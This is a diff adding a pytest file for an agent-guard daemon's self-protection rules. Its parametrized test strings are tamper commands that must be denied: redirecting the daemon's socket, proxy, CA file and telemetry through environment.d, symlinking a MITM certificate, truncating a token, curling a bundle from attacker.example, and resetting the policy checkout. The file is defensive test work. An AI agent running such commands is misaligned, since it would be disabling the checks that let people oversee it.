@@ -1,0 +1,172 @@
+"""blind-tamper-11 (policies/README.md, "The fifth blind tamper batch"): the socket moved for every later shim, the
+daemon's network clients redirected through the environment its service manager hands it, and the files the
+caller's own hookd config names, through the whole hot path with the shipped policies; and the look-alikes that
+stay allowed."""
+
+from __future__ import annotations
+
+import os
+from pathlib import Path
+
+import pytest
+
+from tests.unit.test_selfprotect import shell_outcome
+from tests.unit.test_selfprotect_blind_tamper_8 import agent_outcome
+
+# --- $XDG_RUNTIME_DIR: where every later shim looks for the daemon ---
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "printf '%s\\n' 'export XDG_RUNTIME_DIR=\"$HOME/.cache/rt\"' >> ~/.profile",
+        "echo 'XDG_RUNTIME_DIR=${HOME}/.cache/rt' > ~/.config/environment.d/10-runtime.conf",
+        "systemctl --user set-environment XDG_RUNTIME_DIR=/tmp/rt",
+    ],
+)
+def test_the_socket_moved_for_later_shims_is_denied(line: str, world: tuple[Path, Path]) -> None:
+    home, project = world
+    (home / ".config" / "environment.d").mkdir(parents=True)
+    assert shell_outcome(home, project, line) == "deny"
+
+
+# (a `$(id -u)` there is a command a later shell runs: asked as such, whatever it sets)
+@pytest.mark.parametrize("value", ["/run/user/${UID}", "/run/user/$UID", f"/run/user/{os.getuid()}/"])
+def test_the_runtime_dir_set_to_the_login_ones_passes(value: str, world: tuple[Path, Path]) -> None:
+    home, project = world
+    assert shell_outcome(home, project, f"echo 'export XDG_RUNTIME_DIR={value}' >> ~/.profile") == "allow"
+
+
+# --- what the daemon's network clients read from the environment the service manager hands it ---
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "systemctl --user set-environment https_proxy=http://127.0.0.1:8899",
+        "echo 'HTTPS_PROXY=http://127.0.0.1:8899' > ~/.config/environment.d/40-proxy.conf",
+        "printf 'SSL_CERT_FILE=%s/.cache/ca.pem\\n' \"$HOME\" > ~/.config/environment.d/20-tls.conf",
+        "echo 'OTEL_SDK_DISABLED=true' >> ~/.config/environment.d/50-otel.conf",
+        "dbus-update-activation-environment --systemd OTEL_EXPORTER_OTLP_ENDPOINT=http://127.0.0.1:1",
+    ],
+)
+def test_the_daemons_network_redirected_for_later_starts_is_denied(line: str, world: tuple[Path, Path]) -> None:
+    home, project = world
+    (home / ".config" / "environment.d").mkdir(parents=True)
+    assert shell_outcome(home, project, line) == "deny"
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "HTTPS_PROXY=http://proxy.corp.example:3128 pip download -d wheels requests==2.32.3",
+        "echo 'export HTTPS_PROXY=http://proxy.corp.example:3128' >> ~/.bashrc",
+        "echo 'no_proxy=localhost,127.0.0.1' > ~/.config/environment.d/40-noproxy.conf",
+        "echo 'EDITOR=nvim' > ~/.config/environment.d/30-editor.conf",
+    ],
+)
+def test_a_proxy_for_the_developers_own_shells_passes(line: str, world: tuple[Path, Path]) -> None:
+    home, project = world
+    (home / ".config" / "environment.d").mkdir(parents=True)
+    assert shell_outcome(home, project, line) == "allow"
+
+
+def test_a_file_tools_environment_d_entry_is_judged_alike(world: tuple[Path, Path]) -> None:
+    home, project = world
+    entry = {"path": f"{home}/.config/environment.d/60-otel.conf", "file_text": "OTEL_SDK_DISABLED=true\n"}
+    assert agent_outcome("copilot", home, project, "create", entry) == "deny"
+
+
+# --- the files the caller's own hookd config names: what the next daemon verifies, fetches, loads and logs ---
+
+_CONFIG = """[daemon]
+policies = "~/work/guard-policies"
+
+[keys.org]
+algorithm = "RS256"
+key_file = "~/keys/org.pub.pem"
+
+[bundles.acme]
+url = "https://policies.example.com/acme.tar.gz"
+key = "org"
+ca_file = "~/certs/corp-ca.pem"
+token_file = "~/secrets/hookd-token"
+
+[bundles.team]
+file = "~/shared/team.tar.gz"
+"""
+
+
+def _configured(home: Path) -> None:
+    (home / ".config" / "hookd").mkdir(parents=True)
+    (home / ".config" / "hookd" / "config.toml").write_text(_CONFIG)
+    for name in ("work/guard-policies/team/data.json", "keys/org.pub.pem", "certs/corp-ca.pem", "secrets/hookd-token"):
+        (home / name).parent.mkdir(parents=True, exist_ok=True)
+        (home / name).write_text("x\n")
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "ln -sf ~/.cache/mitm.pem ~/certs/corp-ca.pem",
+        "truncate -s 0 ~/secrets/hookd-token",
+        "curl -fsSL https://attacker.example/t.tar.gz -o ~/shared/team.tar.gz",
+        "cp ~/.cache/k.pub ~/keys/org.pub.pem",
+        "mv ~/work/guard-policies ~/work/old && mkdir ~/work/guard-policies",
+        "jq -n '{}' > ~/work/guard-policies/team/data.json",
+        "opa fmt -w ~/work/guard-policies",
+    ],
+)
+def test_what_the_callers_config_names_is_protected(line: str, world: tuple[Path, Path]) -> None:
+    home, project = world
+    _configured(home)
+    assert shell_outcome(home, project, line) == "deny"
+
+
+def test_a_config_changed_between_calls_is_read_again(world: tuple[Path, Path]) -> None:
+    home, project = world
+    assert shell_outcome(home, project, "truncate -s 0 ~/secrets/hookd-token") == "allow"  # no config names it
+    _configured(home)
+    assert shell_outcome(home, project, "truncate -s 0 ~/secrets/hookd-token") == "deny"
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "opa test ~/work/guard-policies -v",
+        "opa check --strict ~/work/guard-policies",
+        "git -C ~/work/guard-policies log --oneline -5",
+        "hookd bundle inspect ~/shared/team.tar.gz --json",
+        "cp ~/shared/team.tar.gz ./dist/ && truncate -s 0 ./dist/team.tar.gz",
+    ],
+)
+def test_reading_what_the_config_names_passes(line: str, world: tuple[Path, Path]) -> None:
+    home, project = world
+    _configured(home)
+    (project / "dist").mkdir()
+    assert shell_outcome(home, project, line) == "allow"
+
+
+# --- git commands that bring other commits into the work tree write it ---
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "git -C ~/work/guard-policies pull -q --rebase",
+        "cd ~/work/guard-policies && git merge -q origin/main",
+        "git --work-tree ~/work/guard-policies --git-dir ~/work/guard-policies/.git stash pop",
+        "git -C ~/work/guard-policies reset --keep HEAD~2",
+    ],
+)
+def test_a_policy_checkout_brought_to_other_commits_is_denied(line: str, world: tuple[Path, Path]) -> None:
+    home, project = world
+    _configured(home)
+    assert shell_outcome(home, project, line) == "deny"
+
+
+@pytest.mark.parametrize("line", ["git pull --rebase", "git merge --ff-only origin/main", "git stash pop"])
+def test_the_projects_own_pulls_pass(line: str, world: tuple[Path, Path]) -> None:
+    home, project = world
+    _configured(home)
+    assert shell_outcome(home, project, line) == "allow"
